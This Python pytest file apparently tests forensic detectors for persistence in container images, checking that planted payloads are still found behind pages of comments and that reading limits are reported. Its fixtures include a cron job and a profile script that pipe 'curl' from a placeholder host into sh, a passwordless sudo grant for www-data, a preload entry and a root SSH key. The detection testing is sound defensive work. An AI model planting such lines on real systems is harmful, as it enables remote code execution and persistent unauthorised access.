"""A payload behind pages of comments is found, or it is said how much was not read."""

from __future__ import annotations

import pytest

from forensics.detectors import preload, scheduled_jobs, shell_hooks, ssh_keys, start_script, sudoers
from forensics.detectors._scene import Detector
from forensics.limits import MIB
from tests.scenes import File, Layer, build, debian, elf, judge, said

PAGES = b"# a line of comment that says nothing at all\n"
KEY = b"ssh-ed25519 " + b"AAAAC3NzaC1lZDI1NTE5AAAAI" + b"b" * 43 + b" root@kali\n"
PAYLOADS: list[tuple[Detector, str, bytes]] = [
    (preload.DETECTOR, "/etc/ld.so.preload", b"/usr/lib/libx.so\n"),
    (sudoers.DETECTOR, "/etc/sudoers.d/x", b"www-data ALL=(ALL) NOPASSWD: ALL\n"),
    (scheduled_jobs.DETECTOR, "/etc/cron.d/x", b"* * * * * root curl -s http://x.invalid/a | sh\n"),
    (ssh_keys.DETECTOR, "/root/.ssh/authorized_keys", KEY),
    (shell_hooks.DETECTOR, "/etc/profile.d/x.sh", b"curl -s http://x.invalid/a | sh\n"),
]
IDS = [path for _, path, _ in PAYLOADS]


def image_with(path: str, text: bytes) -> tuple[Layer, Layer]:
    return debian(), {path: text, "/usr/lib/libx.so": File(elf(), 0o755)}


@pytest.mark.parametrize(("detector", "path", "payload"), PAYLOADS, ids=IDS)
def test_half_a_megabyte_of_comments_hides_nothing(detector: Detector, path: str, payload: bytes) -> None:
    plain = said(judge(detector, *image_with(path, payload)))
    assert plain
    assert said(judge(detector, *image_with(path, PAGES * 12_000 + payload))) == plain


@pytest.mark.parametrize(("detector", "path", "payload"), PAYLOADS, ids=IDS)
def test_what_is_longer_than_may_be_read_is_told_with_its_size(
    detector: Detector, path: str, payload: bytes
) -> None:
    text = PAGES * 40_000 + payload
    scene = build(image_with(path, text))
    list(detector.detect(scene))
    (issue,) = scene.files.issues
    assert (issue.code, issue.subject) == ("limit", f"layer 1:{path}")
    assert issue.lost_bytes == len(text) - MIB


def test_nothing_is_told_of_files_that_were_read_whole() -> None:
    scene = build([debian()])
    list(start_script.DETECTOR.detect(scene))
    assert scene.files.issues == ()


def test_all_files_together_have_a_bound_too() -> None:
    table = b"* * * * * root true\n" * 40_000
    scene = build([debian(), {f"/etc/cron.d/{number:03}": table for number in range(30)}])
    for version in scene.files.below("/etc/cron.d"):
        scene.files.text(version)
    lost = sum(issue.lost_bytes for issue in scene.files.issues)
    assert lost == 30 * len(table) - 16 * MIB
